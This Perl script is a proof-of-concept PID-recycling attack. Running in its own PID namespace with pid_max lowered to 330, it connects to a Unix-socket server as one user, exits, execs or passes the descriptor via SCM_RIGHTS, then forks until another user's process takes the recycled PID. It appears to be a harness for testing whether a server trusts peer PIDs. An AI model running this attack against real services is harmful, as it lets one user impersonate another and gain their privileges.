# An attacker who recycles PIDs, as process 1 of a PID namespace of its own with few PIDs. Arguments: socket, number of
# tries, then the command of the server under attack, which listens there and says "ready". Tries take turns:
#   early    connect and exit before the server accepts, which is kept busy meanwhile; another user's process gets the PID
#   late     connect, exit once accepted; another user's process gets the PID
#   exec     connect, then become another program
#   pass     connect, hand the connection to another process over a socket, exit; another user's process gets the PID
#   genuine  the other user itself connects, for comparison
# A third process holds the connection of the first four, and sends the request.
use strict;
use warnings;
use POSIX ();
use Socket;

my ($path, $tries, @server) = @ARGV;
my ($ATTACKER, $VICTIM) = (1001, 1002);
my @KINDS = qw(late early exec pass genuine);
# sendmsg and recvmsg.
my %CALLS = (x86_64 => [46, 47], aarch64 => [211, 212]);
my ($SENDMSG, $RECVMSG) = @{ $CALLS{ (POSIX::uname())[4] } // die "no system calls for this machine" };
$SIG{PIPE} = 'IGNORE';

my $server = start_server();
open(my $max, '>', '/proc/sys/kernel/pid_max') or die "pid_max: $!";
print $max "330\n" or die "pid_max: $!";
close($max) or die "pid_max: $!";
attempt($KINDS[$_ % @KINDS]) for 0 .. $tries - 1;
close(SERVER_IN);
waitpid($server, 0);
exit($? >> 8);

sub start_server {
    pipe(my $out, my $out_w) or die;
    pipe(my $in, SERVER_IN) or die;
    my $pid = fork() // die "fork: $!";
    if ($pid == 0) {
        close(SERVER_IN);
        POSIX::dup2(fileno($in), 0);
        POSIX::dup2(fileno($out_w), 3);
        exec(@server) or die "exec: $!";
    }
    close($out_w);
    sysread($out, my $ready, 5) or die "the server did not start";
    return $pid;
}

sub attempt {
    my ($kind) = @_;
    return genuine() if $kind eq 'genuine';
    stall() if $kind eq 'early';
    pipe(my $go, my $go_w) or die;
    pipe(my $gone, my $gone_w) or die;
    pipe(my $changed, my $changed_w) or die;
    my $caller = fork() // die "fork: $!";
    caller_main($kind, $go, $go_w, $changed_w) if $caller == 0;
    close($_) for $go, $gone_w, $changed_w;
    if ($kind eq 'exec') { sysread($changed, my $byte, 1) }
    else { waitpid($caller, 0) }
    my $victim = $kind eq 'exec' ? undef : storm($caller);
    syswrite($go_w, 'g');
    # The holder, whose parent may have gone, closes this as the last.
    sysread($gone, my $byte, 1);
    for my $pid (grep { defined } $victim, $kind eq 'exec' ? $caller : undef) {
        kill('KILL', $pid);
        waitpid($pid, 0);
    }
    while (waitpid(-1, POSIX::WNOHANG()) > 0) { }
}

# Connects as the attacker, leaves the connection with another process, and is gone.
sub caller_main {
    my ($kind, $go, $go_w, $changed_w) = @_;
    become($ATTACKER);
    socketpair(my $near, my $far, AF_UNIX, SOCK_STREAM, 0) or POSIX::_exit(1);
    my $socket = $kind eq 'pass' ? undef : dial();
    my $holder = fork() // POSIX::_exit(1);
    if ($holder == 0) {
        close($_) for $go_w, $changed_w;
        $socket = receive_descriptor($far) if $kind eq 'pass';
        sysread($go, my $byte, 1);
        request($socket);
        POSIX::_exit(0);
    }
    $socket = dial() if $kind eq 'pass';
    sysread($socket, my $accepted, 1) if $kind ne 'early';
    send_descriptor($near, fileno($socket)) if $kind eq 'pass';
    if ($kind eq 'exec') { exec('/bin/sleep', '60') }
    POSIX::_exit(0);
}

# One byte with the descriptor beside it: struct iovec, struct cmsghdr with SCM_RIGHTS, struct msghdr; 64 bits.
sub send_descriptor {
    my ($via, $descriptor) = @_;
    my $byte = 'f';
    my $vector = pack('P Q', $byte, 1);
    my $control = pack('Q i i i x4', 20, 1, 1, $descriptor);
    my $message = pack('Q L x4 P Q P Q i x4', 0, 0, $vector, 1, $control, length($control), 0);
    syscall($SENDMSG, fileno($via), $message, 0) == 1 or die "sendmsg: $!";
}

sub receive_descriptor {
    my ($via) = @_;
    my $byte = "\0";
    my $vector = pack('P Q', $byte, 1);
    my $control = "\0" x 24;
    my $message = pack('Q L x4 P Q P Q i x4', 0, 0, $vector, 1, $control, length($control), 0);
    syscall($RECVMSG, fileno($via), $message, 0) == 1 or die "recvmsg: $!";
    my (undef, undef, undef, $descriptor) = unpack('Q i i i', $control);
    open(my $socket, '+<&=', $descriptor) or die "descriptor: $!";
    return $socket;
}

# Forks until a process of the victim has the PID; 0 would mean that somebody else holds it.
sub storm {
    my ($wanted) = @_;
    for (1 .. 1000) {
        pipe(my $is, my $is_w) or die;
        my $pid = fork() // next;
        if ($pid == 0) {
            POSIX::_exit(0) if $$ != $wanted;
            become($VICTIM);
            syswrite($is_w, 'v');
            sleep(60);
            POSIX::_exit(0);
        }
        close($is_w);
        if ($pid == $wanted) { sysread($is, my $byte, 1); return $pid }
        waitpid($pid, 0);
    }
    return undef;
}

sub genuine {
    my $pid = fork() // die "fork: $!";
    if ($pid == 0) {
        become($VICTIM);
        my $socket = dial();
        sysread($socket, my $accepted, 1);
        request($socket);
        POSIX::_exit(0);
    }
    waitpid($pid, 0);
}

# Keeps the server from accepting for a moment.
sub stall {
    my $socket = dial();
    sysread($socket, my $accepted, 1);
    syswrite($socket, 's');
    close($socket);
}

sub request {
    my ($socket) = @_;
    syswrite($socket, 'a');
    while (sysread($socket, my $bytes, 64)) { }
}

sub dial {
    socket(my $socket, AF_UNIX, SOCK_STREAM, 0) or die "socket: $!";
    connect($socket, pack_sockaddr_un($path)) or die "connect: $!";
    return $socket;
}

sub become {
    my ($id) = @_;
    $) = "$id $id";
    $( = $id;
    ($<, $>) = ($id, $id);
    die "not $id" if $< != $id || $> != $id;
}
